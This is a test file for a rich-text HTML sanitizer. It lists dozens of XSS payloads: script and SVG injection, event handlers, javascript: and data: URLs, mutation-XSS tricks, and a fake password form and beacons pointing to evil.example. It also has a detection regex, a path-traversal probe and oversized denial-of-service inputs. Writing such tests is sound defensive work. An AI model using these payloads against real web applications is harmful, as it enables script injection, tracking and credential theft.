import { isOwnPicture } from '@banyan/shared-contracts/files/own-picture';
import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './sanitize';

const HARMFUL =
  /<\s*(?:script|iframe|object|embed|svg|math|form|input|button|link|meta|base|style|template|video|audio)|\son\w+\s*=|javascript:|vbscript:|data:text|expression\(|url\(|position\s*:|srcset|formaction|srcdoc/i;

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/file/Image/annex/a.png" onload=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="color:red;background-image:url(\'javascript:alert(1)\')">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 2x" src="/api/file/Image/annex/a.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>script>alert(1)<</script>/script>',
  '<x onclick=alert(1)>x</x>',
  '<b onmouseover="alert(1)">x</b>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<p dir="ltr" onfocus=alert(1) tabindex=0 autofocus>x',
];

describe('rich text', () => {
  it.each(attacks)('loses what is more than text: %s', (attack) => {
    const clean = sanitizeRichText(`<p>before</p>${attack}<p>after</p>`);
    expect(clean.replaceAll(/&lt;[^<]*/g, '')).not.toMatch(HARMFUL);
    expect(clean).not.toContain('evil.example');
    expect(clean).toContain('before');
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('keeps what an editor makes', () => {
    const written =
      '<h1>标题</h1><p class="ql-align-center"><strong>粗</strong><em>斜</em> <span style="color:#ff0000">红</span></p>' +
      '<ol><li data-list="bullet" class="ql-indent-1">一</li></ol><table><tbody><tr><td colspan="2">格</td></tr></tbody></table>' +
      '<blockquote>引</blockquote><p><img src="/api/file/Image/annex/a.png" alt="图" width="200" /></p>';
    expect(sanitizeRichText(written)).toBe(written);
  });

  it('opens links away from our page, and only web, mail and telephone ones', () => {
    expect(sanitizeRichText('<a href="https://banyan.example/a?b=1">x</a>')).toBe(
      '<a href="https://banyan.example/a?b=1" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(sanitizeRichText('<a href="mailto:a@banyan.example">x</a><a href="tel:10086">y</a>')).toMatch(/mailto:.*tel:/);
    expect(sanitizeRichText('<a href="ftp://banyan.example">x</a>')).not.toContain('ftp');
    expect(sanitizeRichText('<a target="_self" rel="opener" href="https://banyan.example">x</a>')).not.toMatch(/"opener"|_self/);
  });

  it('shows pictures of ours and embedded ones', () => {
    expect(isOwnPicture('/api/file/Image/annexpic/20260101_a-b.png')).toBe(true);
    expect(isOwnPicture('data:image/png;base64,iVBORw0KGgo=')).toBe(true);
    expect(isOwnPicture('/api/file/Image/../../etc/passwd')).toBe(false);
    expect(isOwnPicture('https://banyan.example/api/file/Image/annex/a.png')).toBe(false);
    expect(isOwnPicture('')).toBe(false);
  });

  it.each([
    ['deep', '<b>'.repeat(333_000)],
    ['deep with wrong ends', '<b></i>'.repeat(140_000)],
    ['deep after ends', '</b>'.repeat(100_000) + '<b>'.repeat(150_000)],
    ['deep again and again', ('<b>'.repeat(990) + '</b>'.repeat(990)).repeat(140)],
    ['deep in capitals', '<b><B>'.repeat(150_000)],
    ['many names', Array.from({ length: 100_000 }, (_, number) => `<x${number}>`).join('')],
    ['wide', '<p>x</p>'.repeat(100_000)],
    ['unclosed', '<a href="'.repeat(100_000)],
    ['styled', `<p style="${'color:red;'.repeat(50_000)}">x</p>`],
    ['entities', '&amp;'.repeat(200_000)],
    ['brackets', '<'.repeat(1_000_000)],
    ['picture', `<img src="data:image/png;base64,${'A'.repeat(900_000)}">`],
  ])('is quick with a million characters: %s', (_name, html) => {
    const begin = performance.now();
    sanitizeRichText(html);
    // What grows with the square takes minutes; a busy machine only seconds.
    expect(performance.now() - begin).toBeLessThan(8000);
  });
});
